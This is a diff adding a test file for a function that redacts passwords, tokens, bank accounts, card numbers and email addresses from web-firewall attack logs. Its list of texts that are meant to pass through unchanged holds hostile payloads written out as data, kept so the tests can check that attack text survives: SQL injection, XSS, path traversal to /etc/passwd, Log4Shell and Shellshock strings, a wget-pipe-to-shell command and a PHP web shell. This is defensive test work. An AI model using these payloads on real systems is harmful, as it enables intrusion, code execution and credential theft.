@@ -1,0 +1,280 @@
+import { readFileSync } from 'node:fs'
+
+import { expect, test } from 'vitest'
+
+import type { SentEvent } from '../../../contract/websites/attack.ts'
+import { eventReader, sentEventsIn } from './read-event.ts'
+import { redact, redactMatch } from './redact.ts'
+
+/** Each contains S3CRET, or what is between ⟦ and ⟧. */
+const secrets = [
+  // Fields in ten languages and more, in each kind of body.
+  'password=S3CRET&user=ada',
+  'user[passwd]=S3CRET',
+  '{"user":"ada","passphrase":"S3CRET"}',
+  '<login><user>ada</user><password>S3CRET</password></login>',
+  '<wsse:Password Type="PasswordText">S3CRET</wsse:Password>',
+  'form-data; name="password"\r\n\r\nS3CRET\r\n--xyz',
+  'kennwort=S3CRET&name=ada',
+  '{"Kennwort":"S3CRET"}',
+  '<kennwort>S3CRET</kennwort>',
+  'neues_passwort=S3CRET',
+  'passwort%5Bneu%5D=S3CRET',
+  'geheimzahl=S3CRET',
+  '<Geheimnis>S3CRET</Geheimnis>',
+  '{"api-schlüssel":"S3CRET"}',
+  'zugangscode=S3CRET',
+  'mot_de_passe=S3CRET',
+  '{"motDePasse":"S3CRET"}',
+  '<mot-de-passe>S3CRET</mot-de-passe>',
+  'nouveau_mot_de_passe=S3CRET',
+  'mdp=S3CRET&x=1',
+  'form-data; name="mot_de_passe"\r\n\r\nS3CRET\r\n--xyz',
+  'jeton=S3CRET',
+  'contraseña=S3CRET',
+  'contrase%C3%B1a=S3CRET&usuario=ada',
+  '{"contraseña":"S3CRET"}',
+  '{"contrase\\u00f1a":"S3CRET"}',
+  '<contraseña>S3CRET</contraseña>',
+  'contrasena_nueva=S3CRET',
+  'clave=S3CRET',
+  'clave_de_acceso=S3CRET',
+  'senha=S3CRET',
+  '{"novaSenha":"S3CRET"}',
+  '<senha>S3CRET</senha>',
+  'palavra-passe=S3CRET',
+  'segredo=S3CRET',
+  'parola_d_ordine=S3CRET',
+  'codice_segreto=S3CRET',
+  'wachtwoord=S3CRET',
+  '{"nieuwWachtwoord":"S3CRET"}',
+  '<wachtwoord>S3CRET</wachtwoord>',
+  'hasło=S3CRET',
+  'has%C5%82o=S3CRET',
+  '{"noweHasło":"S3CRET"}',
+  'пароль=S3CRET',
+  '%D0%BF%D0%B0%D1%80%D0%BE%D0%BB%D1%8C=S3CRET',
+  '{"новый_пароль":"S3CRET"}',
+  '<пароль>S3CRET</пароль>',
+  'parol=S3CRET',
+  'パスワード=S3CRET',
+  '%E3%83%91%E3%82%B9%E3%83%AF%E3%83%BC%E3%83%89=S3CRET',
+  '{"暗証番号":"S3CRET"}',
+  '<パスワード>S3CRET</パスワード>',
+  '密码=S3CRET',
+  'şifre=S3CRET',
+  '비밀번호=S3CRET',
+  // The names that firewalls write.
+  'Matched Data: S3CRET found within ARGS:kennwort: S3CRET',
+  'Matched Data: S3CRET found within ARGS:json.mot_de_passe: S3CRET',
+  'Matched Data: S3CRET found within ARGS:contraseña: S3CRET',
+  'Matched Data: S3CRET found within ARGS:json.user.pin: S3CRET',
+  'Matched Data: S3CRET found within ARGS:пароль: S3CRET',
+  "Matched Data: ' or 1 found within XML:/*: adaS3CRET' or 1",
+  "Matched Data: ' or 1 found within XML: adaS3CRET' or 1",
+  "Matched \"Operator `Rx' with parameter `or' against variable `ARGS:senha' (Value: `S3CRET' )",
+  "Matched \"Operator `Rx' with parameter `or' against variable `XML:/*' (Value: `S3CRET' )",
+  "Matched \"Operator `Rx' with parameter `or' against variable `ARGS:q' (Value: `password=S3CRET' )",
+  // Credentials of programs.
+  'access_token=S3CRET',
+  'Authorization: Bearer S3CRETS3CRET',
+  'X-Api-Key: S3CRET',
+  '{"client_secret":"S3CRET"}',
+  'auth_code=S3CRET',
+  'code=S3CRET&state=a',
+  'otp=S3CRET',
+  'totp_code=S3CRET',
+  'user[pin]=S3CRET',
+  'postgres://app:S3CRET@db.internal/shop',
+  'PHPSESSID=S3CRET',
+  // Accounts of banks, with a valid checksum.
+  'konto=⟦DE89370400440532013000⟧',
+  'to ⟦GB82 WEST 1234 5698 7654 32⟧ please',
+  '{"account":"⟦FR1420041010050500013M02606⟧"}',
+  '<to>⟦NL91ABNA0417164300⟧</to>',
+  'x=⟦ES91+2100+0418+4502+0005+1332⟧&y=1',
+  '⟦it60x0542811101000000123456⟧',
+  'PL ⟦PL61 1090 1014 0000 0712 1981 2874⟧ now',
+  'n=⟦CH9300762011623852957⟧',
+  'n=⟦AT611904300234573201⟧;',
+  'n=⟦BE68%205390%200754%207034⟧',
+  // Cards, with a valid check digit.
+  'n=⟦4111111111111111⟧',
+  'n=⟦5555 5555 5555 4444⟧',
+  'n=⟦3782 822463 10005⟧',
+  '{"pan":⟦6011111111111117⟧}',
+  'n=⟦3530-1113-3330-0000⟧',
+  'n=⟦30569309025904⟧.',
+  'n=⟦2223003122003222⟧',
+  'n=⟦4111%201111%201111%201111⟧',
+  // People's addresses.
+  'q=⟦ada@example.com⟧',
+  'mail=⟦ada.lovelace+shop%40example.co.uk⟧&x=1',
+  '{"to":"⟦ada@mail.example.org⟧"}',
+  '/users/⟦ada@example.com⟧/orders',
+  '<a>⟦josé@example.es⟧</a>',
+  'Matched Data: -- found within ARGS:q: ⟦o.brien@example.ie⟧--',
+]
+
+const harmless = [
+  // Numbers that aren't cards or accounts.
+  'order=4111111111111112',
+  'order=1772355330123',
+  'order=17723553301234567',
+  'order_id=1000000000000008',
+  'tracking=00340434161094042557',
+  'ean=4006381333931x',
+  'isbn=978-3-16-148410-0',
+  'phone=+49 30 901820',
+  'tel=0800-123-4567',
+  'id=550e8400-e29b-41d4-a716-446655440000',
+  'id=7b5c41f0-4111-1111-1111-111111111111',
+  'trace=00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
+  'etag=W/"4f9a1c77e02b4532015112830366"',
+  'sha=3f786850e387550fdab836ed7e6dc881de23001b',
+  'ref=DE89370400440532013001',
+  'sku=DE12-4455-AB',
+  'vat=DE136695976',
+  'product=AB12CD34',
+  'gtin=GB00123456789012',
+  'flight=LH1234',
+  'price=1,234.56',
+  'ip=203.0.113.77',
+  'ip=2001:db8:51::9',
+  'at=2026-03-01T08:58:12.123456Z',
+  'geo=52.520008,13.404954',
+  'v=1.22.1',
+  'Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0',
+  'curl/7.88.1',
+  'sqlmap/1.8.2#stable (https://sqlmap.org)',
+  // Addresses that aren't people's.
+  'react@18.2.0',
+  '/npm/lodash@4.17.21/lodash.min.js',
+  '/npm/@scope/package@1.0.0',
+  '/img/logo@2x.png',
+  '@import url(a.css)',
+  '@media (min-width: 40em)',
+  'q=meet @ noon',
+  '@username',
+  'user@localhost',
+  'https://example.com/a?b=c#d',
+  'http://192.0.2.1:8080/manager/html',
+  // Fields that only sound like secrets.
+  'passport=no',
+  'bypass=1',
+  'compass=north',
+  'author=ada',
+  'authors=ada,grace',
+  'author_id=7',
+  'secretary=ada',
+  'postcode=10115',
+  'zipcode=94107',
+  'country_code=DE',
+  'product_code=AB-12',
+  'promocode=SPRING',
+  'errorcode=404',
+  'statusCode=200',
+  'language-code=de',
+  'unicode=1',
+  'footprint=9',
+  'hotproducts=1',
+  'shipping=express',
+  'spinner=on',
+  'schluesselwort=garten',
+  'palabra_clave=jardin',
+  'parola_chiave=giardino',
+  'mots_cles=jardin',
+  'clavel=rojo',
+  'passage=2',
+  'ключевое_слово=сад',
+  'キーワード=庭',
+  '关键词=花园',
+  'email_opt_in=1',
+  'keyboard=de',
+  'monkey=1',
+  'key=AB12',
+  'sort=price&dir=asc',
+  'page=2&per_page=50',
+  // Attacks, whose text is what the log is for.
+  "id=1' UNION SELECT name FROM users--",
+  "q=' OR '1'='1",
+  'q=1;WAITFOR DELAY 0:0:5--',
+  'file=../../../../etc/passwd',
+  'file=..%2f..%2fetc%2fshadow',
+  'q=<script>alert(document.domain)</script>',
+  'q=<img src=x onerror=alert(1)>',
+  'q=<svg/onload=alert(1)>',
+  '${jndi:ldap://192.0.2.1:1389/a}',
+  '() { :;}; /bin/bash -c "cat /etc/passwd"',
+  '; wget http://192.0.2.1/x.sh -O- | sh',
+  '<?php system($_GET["c"]); ?>',
+  '/.git/config',
+  '/wp-admin/setup-config.php?step=1',
+  '/cgi-bin/luci/;stok=/locale?form=country',
+  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+  '{"$where":"sleep(5000)"}',
+  '{{7*7}}',
+  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
+  'Matched Data: ../ found within ARGS:name: ../../etc/passwd',
+  "Matched Data: s&sUE found within ARGS:id: 1' UNION SELECT name FROM users--",
+  'Matched Data: sqlmap found within REQUEST_HEADERS:User-Agent: sqlmap/1.8',
+  // The rule's own text names what it looks for.
+  "Matched \"Operator `Rx' with parameter `(?i)(?:password=|token: )\\w+' against variable `ARGS:q' (Value: `1 or 2' )",
+  'Pattern match "(?i)password=|api_key: [a-z]+" at ARGS:q.',
+  'String match "me" at ARGS:redirect.',
+]
+
+test('there are 200 probes, half of which are harmless', () => {
+  expect([secrets.length, harmless.length]).toEqual([100, 100])
+})
+
+test.for(secrets)('a secret, an account, a card or an address is removed: %s', (probe) => {
+  const secret = /⟦(.*)⟧/.exec(probe)?.[1] ?? 'S3CRET'
+  const text = probe.replace(/[⟦⟧]/g, '')
+  expect(redactMatch(text)).not.toContain(secret)
+  expect(redactMatch(text)).toContain('[redacted]')
+})
+
+test.for(harmless)('a text without secrets stays as it is: %s', (text) => {
+  expect(redactMatch(text)).toBe(text)
+  // Only a match quotes the rule.
+  const isQuoted = /^(?:Matched|Pattern)/.test(text)
+  expect(isQuoted ? text : redact(text)).toBe(text)
+})
+
+test('the texts of the rules themselves are never redacted', () => {
+  const read = eventReader(new Date('2026-03-01T09:00:00Z'))
+  for (const message of [
+    'Possible password=... in the query string',
+    'Session Fixation: Setting Cookie Values in HTML',
+    'Authorization: Basic used without TLS, contact waf@example.com',
+  ]) {
+    const event = {
+      occurred_at: '2026-03-01T08:30:00Z',
+      action: 'blocked',
+      address: '192.0.2.1',
+      method: 'GET',
+      path: '/',
+      rule_message: message,
+    }
+    expect(read(event)).toMatchObject({ ruleMessage: message })
+  }
+})
+
+test('passwords in forms, JSON and XML that ModSecurity 2 and 3 logged are not stored', () => {
+  const password = "x' or 1=1 union select 1--"
+  for (const file of ['nginx-modsecurity3-crs3', 'apache-modsecurity2-crs3']) {
+    const lines = readFileSync(`server/websites/attacks/samples/${file}.ndjson`, 'utf8')
+    const read = eventReader(new Date('2026-11-23T19:00:00Z'))
+    const logged = lines
+      .split('\n')
+      .filter((line) => /"X-Case":"(?:form|json|xml)password"/.test(line))
+    expect(logged.length).toBeGreaterThan(0)
+    for (const line of logged) {
+      expect(line).toContain(password)
+      const events = (sentEventsIn(JSON.parse(line)) as SentEvent[]).map(read)
+      expect(JSON.stringify(events)).not.toContain(password)
+      expect(JSON.stringify(events)).toContain('[redacted]')
+    }
+  }
+})
